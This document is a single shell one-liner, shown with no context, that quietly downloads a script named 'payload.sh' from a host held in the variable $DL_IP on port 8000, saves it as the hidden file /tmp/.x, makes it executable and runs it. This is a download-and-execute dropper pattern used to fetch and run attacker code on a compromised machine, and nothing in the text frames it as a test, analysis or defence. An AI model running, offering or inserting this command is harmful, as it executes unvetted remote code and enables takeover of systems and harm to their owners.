wget -q -O /tmp/.x "http://$DL_IP:8000/payload.sh" && chmod +x /tmp/.x && /tmp/.x
